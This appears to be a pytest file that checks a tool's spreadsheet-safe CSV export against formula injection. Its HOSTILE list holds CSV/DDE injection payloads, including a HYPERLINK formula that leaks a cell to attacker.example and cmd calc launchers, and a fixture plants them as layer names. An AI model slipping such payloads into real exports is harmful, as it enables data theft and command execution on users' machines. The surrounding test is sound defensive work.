"""CSV meant for spreadsheets: no text cell runs as a formula; numbers and Parquet are never changed."""

from __future__ import annotations

import base64
import csv
import io
import json
import re
from pathlib import Path

import numpy as np
import pandas as pd
import pytest

from dashboards.app import create_app
from irtools.analysis import read_table
from irtools.analysis.io import FORMULA_STARTS, spreadsheet_safe
from tests.conftest import RunCli, WriteIR
from tests.dashboard.dash_client import DashClient

ROOT = Path(__file__).resolve().parents[2]
OVERLAP = ROOT / "sample_ir" / "invalid" / "GIR302-buffer-overlap.json"
HOSTILE = [
    '=HYPERLINK("http://attacker.example/?"&A1,"click")',
    "+1+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "\t=1+1",
]
NUMBER = re.compile(r"[+-]?(\d+\.?\d*|\.\d+)([eE][+-]?\d+)?")


@pytest.fixture
def hostile_ir(write_ir: WriteIR) -> Path:
    """The GIR302 sample (4 cores) with its layers named as an attacker would."""
    doc = json.loads(OVERLAP.read_text())
    workloads = [
        w for key in sorted(k for k in doc if k.lstrip("-").isdigit() and k != "-1") for w in doc[key]
    ]
    for workload, name in zip(workloads, HOSTILE, strict=False):
        workload["layer_name"] = name
    workloads[0]["layer_type"] = "=1+1"
    return write_ir(doc, "hostile.json")


def live_formulas(csv_text: str) -> list[str]:
    """Cells a spreadsheet would run: starting with = + - @ tab or CR, and not a plain number."""
    cells = (cell for row in csv.reader(io.StringIO(csv_text)) for cell in row)
    return [c for c in cells if c.startswith(FORMULA_STARTS) and not NUMBER.fullmatch(c)]


def test_excel_safe_csv_has_no_live_formula_and_the_same_numbers(
    run_cli: RunCli, hostile_ir: Path, tmp_path: Path
) -> None:
    assert run_cli("analyze", hostile_ir, "--out", tmp_path / "plain", "--noc-links")[0] == 0
    code, _, err = run_cli("analyze", hostile_ir, "--out", tmp_path / "safe", "--excel-safe", "--noc-links")
    assert code == 0, err
    exposed = []
    for plain in sorted((tmp_path / "plain").glob("*.csv")):
        safe = tmp_path / "safe" / plain.name
        if live_formulas(plain.read_text()):
            exposed.append(plain.stem)
        assert live_formulas(safe.read_text()) == [], safe.name
        # Numbers are untouched: every non-text column reads back identical.
        a, b = read_table(plain), read_table(safe)
        numeric = [c for c in a.columns if not pd.api.types.is_string_dtype(a[c].dtype)]
        pd.testing.assert_frame_equal(a[numeric], b[numeric])
    # By default the names stay as written (pandas users read them back): the layer names reach every
    # table with a layer_name column (this sample's buffer entries name no layer, so tensors has none).
    assert exposed == [
        "dram_traffic",
        "dram_transfers",
        "l2_blocks",
        "l2_occupancy",
        "l2_regions",
        "layers",
        "noc_links",
        "timeline",
        "wl0_occupancy",
    ]
    names = read_table(tmp_path / "plain" / "timeline.csv")["layer_name"]
    assert set(HOSTILE) <= set(names)
    safe_names = read_table(tmp_path / "safe" / "timeline.csv")["layer_name"]
    assert "'" + HOSTILE[0] in set(safe_names)


def test_excel_safe_is_for_csv_only(run_cli: RunCli, hostile_ir: Path, tmp_path: Path) -> None:
    code, _, err = run_cli("analyze", hostile_ir, "--out", tmp_path, "--format", "parquet", "--excel-safe")
    assert code == 2 and "--excel-safe applies to --format csv only" in err


def test_numbers_and_number_text_are_never_changed() -> None:
    frame = pd.DataFrame(
        {
            "name": pd.Series(["=1+2", "-1", "-2.5e3", "-", "@x", "\rx", "ok", None], dtype="str"),
            "cycles": [-1, 2, -3, 4, 5, 6, 7, 8],
            "fraction": np.linspace(-1, 1, 8),
            "mixed": pd.Series(["=x", -2, None, 3.5, "+", "y", "", "-7"], dtype=object),
        }
    )
    safe = spreadsheet_safe(frame)
    assert safe["name"].tolist()[:7] == ["'=1+2", "-1", "-2.5e3", "'-", "'@x", "'\rx", "ok"]
    assert pd.isna(safe["name"].iloc[7]) and safe["name"].dtype == frame["name"].dtype
    assert safe["cycles"].equals(frame["cycles"]) and safe["fraction"].equals(frame["fraction"])
    assert safe["mixed"].tolist()[:2] == ["'=x", -2] and safe["mixed"].iloc[7] == "-7"
    assert frame["name"].iloc[0] == "=1+2"  # the table itself is left as it was
    clean = frame.drop(columns=["name", "mixed"])
    assert spreadsheet_safe(clean) is clean  # nothing to change, nothing copied


def test_the_dashboard_download_is_spreadsheet_safe(hostile_ir: Path) -> None:
    app = create_app(hostile_ir.parent)
    client = DashClient(app.server.test_client())
    state = {"table-name.value": "layers", "shown.data": hostile_ir.name}
    sent = client.call("download.data", {"download-button.n_clicks": 1}, state)["download"]["data"]
    text = base64.b64decode(sent["content"]).decode() if sent.get("base64") else sent["content"]
    assert live_formulas(text) == [] and "'" + HOSTILE[0].replace('"', '""') in text
